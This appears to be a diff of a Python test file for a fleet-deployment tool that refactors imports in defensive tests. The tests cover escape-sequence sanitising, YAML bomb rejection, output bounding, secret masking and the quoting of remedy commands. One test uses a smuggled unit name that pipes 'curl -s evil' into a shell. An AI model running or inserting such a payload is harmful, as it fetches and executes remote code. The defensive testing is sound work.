@@ -19,28 +19,23 @@ from pydantic import BaseModel, ValidationError
 from pyinfra.api import Config, Host, Inventory, State
 from pyinfra.connectors import util
 
-from deploys.common import cli_guards
-from facts.boot_id import BootId
-from facts.rignode import call, context, fact, pack
-from gates.core.violation import Layer, Violation
-from gates.host.reachable import nodes_reachable
+from deploys.plans import cli
+from facts import node, pack
+from facts.plain import BootId
+from gates.core import Layer, Violation
+from gates.host import nodes_reachable
+from node import processes, units
 from node.core import proc
 from node.core.run import Done
 from node.kube import inspect
-from node.rules import ownership, secret
-from node.snapshot import processes, units
-from node.systemd import scripts
-from operations.change import lease, node_call
-from operations.rollback import revert
-from schema.core.errors import SpecError
-from schema.importing import reading
-from schema.observed.artifact import metadata_of
-from schema.observed.backup import BackupPlan, BackupRow, CopyOf, DisplacedRow, PruneRow
-from schema.observed.files import ChangeSummary, FormerWeights, Weights
-from schema.observed.snapshot import Unreadable
+from node.rules import engine, secret
+from operations import rollback, run
+from schema import load
+from schema.artifact import BackupPlan, BackupRow, CopyOf, DisplacedRow, PruneRow, metadata_of
+from schema.core import SpecError
+from schema.snapshot import ChangeSummary, FormerWeights, Unreadable, Weights
 from tests.unit.builders.pages import change
-from tests.unit.builders.snapshots import healthy, put
-from tests.unit.builders.spark_rig import spark_plan
+from tests.unit.builders.rigs import healthy, put, spark_plan
 
 ROOT = Path(__file__).parents[3]
 START = "{ path=/opt/v/bin/vllm ; argv[]=%s ; ignore_errors=no ; pid=0 ; code=(null) ; status=0/0 }"
@@ -72,8 +67,8 @@ def test_no_escape_of_a_host_reaches_a_terminal(field: str) -> None:
 )
 def test_a_document_that_is_none_is_one_line(line: str) -> None:
     output = SimpleNamespace(stdout_lines=[line], stderr_lines=["\x1b]0;title\x07"])
-    with pytest.raises(call.AskFailed) as raised:
-        call.document_of("spark1", "snapshot", output, 5)
+    with pytest.raises(node.AskFailed) as raised:
+        node.document_of("spark1", "snapshot", output, 5)
     assert str(raised.value).isprintable()
 
 
@@ -82,10 +77,10 @@ def test_what_a_host_said_leaves_no_escape_in_the_log_or_the_last_line() -> None
     said = "\x1b]0;title\x07\x1b[8m\x9b2J \u202eevil\r"
     line = f"\x1b[1m\x1b[91m{said}\x1b[0m"
     record = logging.LogRecord("pyinfra", logging.INFO, "", 0, line, (), None)
-    assert cli_guards.harmless(record)
+    assert cli.harmless(record)
     assert record.getMessage() == "\x1b[1m\x1b[91m?]0;title??[8m?2J ?evil?\x1b[0m"
-    assert str(node_call.StepFailed("one\n\x1b[2Jtwo")) == "one\n?[2Jtwo"
-    for error in (node_call.StepFailed(said), call.AskFailed(said)):
+    assert str(run.StepFailed("one\n\x1b[2Jtwo")) == "one\n?[2Jtwo"
+    for error in (run.StepFailed(said), node.AskFailed(said)):
         assert str(error).isprintable()
     assert Unreadable(unreadable=said).unreadable.isprintable()
 
@@ -121,9 +116,9 @@ def test_a_yaml_of_an_image_or_a_neighbour_does_not_grow(tmp_path: Path) -> None
     file = tmp_path / "recipe.yaml"
     file.write_text(LAUGHS)
     with pytest.raises(SpecError, match="grows"):
-        reading.read(file)
+        load.read_file(file)
     file.write_text("base: &b {a: 1}\nmore: *b\n")
-    assert reading.read(file)[0] == {"base": {"a": 1}, "more": {"a": 1}}
+    assert load.read_file(file)[0] == {"base": {"a": 1}, "more": {"a": 1}}
 
 
 def test_a_command_line_in_the_snapshot_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -135,7 +130,7 @@ def test_a_command_line_in_the_snapshot_is_bounded(monkeypatch: pytest.MonkeyPat
     )
     monkeypatch.setattr(proc, "environ", lambda _pid: {"VLLM_X": "y" * 1_000_000})
     monkeypatch.setattr(proc, "stat", lambda pid: proc.Stat(pid, "python3", "S", 1, 1, 5, 1))
-    (row,) = processes.read()
+    (row,) = processes.read_processes()
     assert sum(map(len, row["argv"])) <= 1 << 16
     assert row["argv"][:3] == long[:3]
     assert len(json.dumps(row)) < 1 << 17
@@ -143,8 +138,8 @@ def test_a_command_line_in_the_snapshot_is_bounded(monkeypatch: pytest.MonkeyPat
 
 def test_an_error_of_a_node_is_printable() -> None:
     said = json.dumps({"ok": False, "error": "no\x1b[2J", "remedy": "rm\r\nmend", "code": "x"})
-    with pytest.raises(call.AskFailed) as raised:
-        call.document_of("spark1", "apply", SimpleNamespace(stdout_lines=[said]), 5)
+    with pytest.raises(node.AskFailed) as raised:
+        node.document_of("spark1", "apply", SimpleNamespace(stdout_lines=[said]), 5)
     assert str(raised.value) == "spark1: apply: no?[2J; rm??mend"
 
 
@@ -179,7 +174,7 @@ def test_other_peoples_units_keep_their_secrets(step: str, argv: str) -> None:
 )
 def test_scripts_of_other_peoples_units_keep_their_secrets(line: str) -> None:
     """Their words are told, since they name the container or the engine that a unit starts."""
-    told = scripts.words([line])
+    told = units.script_words([line])
     assert told
     assert "CANARY" not in " ".join(told)
 
@@ -228,52 +223,54 @@ def test_a_host_that_freezes_is_left_by_the_operators_own_clock(
     sent = pack.Call(line, "x" * 1_000_000)
     monkeypatch.setattr(pack, "stdin_call", lambda *_: sent)
     monkeypatch.setattr(pack, "install_call", lambda *_: sent)
-    for module in (call, node_call):
+    for module in (node, run):
         monkeypatch.setattr(module, "bounded", lambda *_: line)
-    monkeypatch.setattr(context, "LATE_S", 0)
-    monkeypatch.setattr(context, "END_S", 0.2)
-    monkeypatch.setattr(revert, "UNDO_TIMEOUT_S", 1)
-    monkeypatch.setattr(lease, "LOOK_S", 1)
+    monkeypatch.setattr(node, "LATE_S", 0)
+    monkeypatch.setattr(node, "END_S", 0.2)
+    monkeypatch.setattr(rollback, "UNDO_TIMEOUT_S", 1)
+    monkeypatch.setattr(run, "LOOK_S", 1)
     monkeypatch.setattr(BootId, "command", lambda _self: line)
     monkeypatch.setattr(BootId, "timeout_s", 1, raising=False)
     ways: dict[str, Callable[[], object]] = {
-        "ask": lambda: call.ask_node(state, host, "snapshot", {}, 1),
-        "change": lambda: node_call.call(state, host, "apply", {}, 1),
-        "look": lambda: fact.lines_of(state, "@local", sent, 1),
-        "fact": lambda: context.fact_of(state, host, BootId),
-        "stop": lambda: revert.stop_unit(state, "@local"),
-        "new way in": lambda: lease.new_way_in(state, "@local"),
+        "ask": lambda: node.ask_node(state, host, "snapshot", {}, 1),
+        "change": lambda: run.call(state, host, "apply", {}, 1),
+        "look": lambda: node.lines_of(state, "@local", sent, 1),
+        "fact": lambda: node.fact_of(state, host, BootId),
+        "stop": lambda: rollback.stop_unit(state, "@local"),
+        "new way in": lambda: run.lease_new_way_in(state, "@local"),
     }
     with gevent.Timeout(8):
         try:
             said = ways[way]()
-        except (call.AskFailed, node_call.StepFailed) as error:
+        except (node.AskFailed, run.StepFailed) as error:
             said = str(error)
     assert said is None if way == "fact" else "no answer in " in str(said)
 
 
 def test_a_host_that_floods_does_not_fill_this_machine(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(util, "read_buffer", util.read_buffer)
-    monkeypatch.setattr(context, "LATE_S", 0)
-    monkeypatch.setattr(context, "MAX_OUT", 1 << 20)
-    context.bound_output()
+    monkeypatch.setattr(node, "LATE_S", 0)
+    monkeypatch.setattr(node, "MAX_OUT", 1 << 20)
+    node.bound_output()
     state, _ = _here()
     before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
-    said = fact.lines_of(state, "@local", pack.Call("timeout 8 cat /dev/zero", ""), 2)
+    said = node.lines_of(state, "@local", pack.Call("timeout 8 cat /dev/zero", ""), 2)
     assert isinstance(said, Unreadable)
     assert "no answer in" in said.unreadable
     grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
     assert grown < 100 << 10, f"{grown >> 10} MiB of it are here"
 
 
-@pytest.mark.parametrize("way", [revert.stop_unit, lease.new_way_in], ids=["stop", "new way in"])
+@pytest.mark.parametrize(
+    "way", [rollback.stop_unit, run.lease_new_way_in], ids=["stop", "new way in"]
+)
 def test_what_a_command_says_as_it_fails_is_one_line(
     monkeypatch: pytest.MonkeyPatch, way: Callable[[State, str], None]
 ) -> None:
     state, _ = _here()
     line = "printf 'no\\033[2J\\nmend: rm' >&2; exit 1"
-    monkeypatch.setattr(node_call, "bounded", lambda *_: line)
-    with pytest.raises(node_call.StepFailed) as raised:
+    monkeypatch.setattr(run, "bounded", lambda *_: line)
+    with pytest.raises(run.StepFailed) as raised:
         way(state, "@local")
     assert str(raised.value).endswith(": no?[2J?mend: rm")
 
@@ -316,7 +313,7 @@ def test_a_remedy_quotes_what_it_names() -> None:
     held = SimpleNamespace(unit="x;curl -s evil|sh;.service", container_id=None)
     unit = SimpleNamespace(name=held.unit, restart="no", triggered_by=["a b.timer"],
                            enabled="enabled", exec_start=(), exec_start_pre=())  # fmt: skip
-    found = ownership.end(held, [], [unit])
+    found = engine.end_ownership(held, [], [unit])
     assert found is not None
     assert found.command == "sudo systemctl stop 'x;curl -s evil|sh;.service'"
     assert "systemctl stop 'a b.timer'" in found.again
